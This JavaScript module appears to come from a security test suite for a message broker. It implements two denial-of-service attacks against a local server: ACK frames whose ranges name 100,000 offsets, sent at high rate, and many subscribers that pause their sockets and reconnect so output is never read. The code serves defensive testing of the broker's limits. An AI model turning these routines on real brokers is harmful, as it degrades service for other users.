/**
 * Attacks through the consumer side (issue items 3 and 4): ACK frames whose
 * ranges name far more offsets than the sender holds, and subscribers that
 * never read what they asked for.
 */
import { CLIENT_MODULE, PROTOCOL_MODULE } from '../../lib/paths.mjs'
import { Peer, addCounts, sleep } from '../peer.mjs'

const { connect } = await import(CLIENT_MODULE)
const { encodeAck, encodeSubscribe } = await import(PROTOCOL_MODULE)

/** Publish `count` messages of `bytes` each to `topic` as `creds`, confirmed, 100 at a time. */
export async function fill(ctx, creds, topic, count, bytes) {
  const client = await connect(`skiff://127.0.0.1:${ctx.port}`, { name: 'hostile-fill', ...creds })
  const producer = client.producer({ maxInFlight: 100 })
  const payload = Buffer.alloc(bytes, 0x61)
  for (let i = 0; i < count; i += 100) await Promise.all(Array.from({ length: Math.min(100, count - i) }, () => producer.publish(topic, payload)))
  await client.close()
}

/**
 * Item 3: a subscription holding one message (kept with `progress` ACKs)
 * sends 35-byte ACKs whose one range names 100,000 offsets, ~2,200 a second
 * (77 KB/s), as first seen.
 */
export function ackAmplification(ctx, { perSecond = 2200 } = {}) {
  let running = true
  const stats = { acks: 0, errors: new Map() }
  const done = (async () => {
    const p = await Peer.login(ctx.port, ctx.creds.mallory)
    p.write(encodeSubscribe({ corr: 1, sub: 1, topic: 'mallory.acks', group: 'amp', start: 'earliest', maxInFlight: 10 }))
    await sleep(200)
    const frames = Array.from({ length: 22 }, (_, i) =>
      encodeAck({ sub: 1, kind: i % 2 ? 'progress' : 'nack', ranges: [0, 0, 100_000], ...(i % 2 ? {} : { delayMs: 0 }) }),
    )
    const batch = Buffer.concat(frames)
    const every = (1000 * frames.length) / perSecond
    for (let i = 0; running && !p.closed && i < 1_000_000; i++) {
      p.write(batch)
      stats.acks += frames.length
      await sleep(every)
    }
    addCounts(stats.errors, p.errors)
    p.end()
  })()
  return {
    prepare: () => fill(ctx, ctx.creds.mallory, 'mallory.acks', 3, 16),
    async stop() {
      running = false
      await done
      return { acks: stats.acks, bytesPerAck: 35, errors: Object.fromEntries(stats.errors) }
    },
  }
}

/**
 * Item 4: subscribers that never read. Each opens its own group from the
 * start of a ~94 MiB topic with 1,000 credits of 64 KiB and pauses its
 * socket; one that is cut comes back, for as long as the attack runs.
 */
export function unreadOutput(ctx, { connections = 24 } = {}) {
  let running = true
  const stats = { opened: 0, cut: 0, errors: new Map() }
  const slot = async (n) => {
    for (let round = 0; running && round < 1000; round++) {
      let p
      try {
        p = await Peer.login(ctx.port, ctx.creds.mallory)
      } catch {
        await sleep(100)
        continue
      }
      stats.opened++
      p.write(encodeSubscribe({ corr: 1, sub: 1, topic: 'mallory.big', group: `unread-${n}-${round}`, start: 'earliest', maxInFlight: 1000 }))
      await sleep(100)
      p.socket.pause()
      await p.until(() => !running, 600_000)
      if (p.closed) stats.cut++
      addCounts(stats.errors, p.errors)
      p.end()
    }
  }
  const done = Promise.all(Array.from({ length: connections }, (_, n) => slot(n)))
  return {
    prepare: () => fill(ctx, ctx.creds.mallory, 'mallory.big', 1500, 64 * 1024),
    async stop() {
      running = false
      await done
      return { connections, opened: stats.opened, cut: stats.cut, errors: Object.fromEntries(stats.errors) }
    },
  }
}
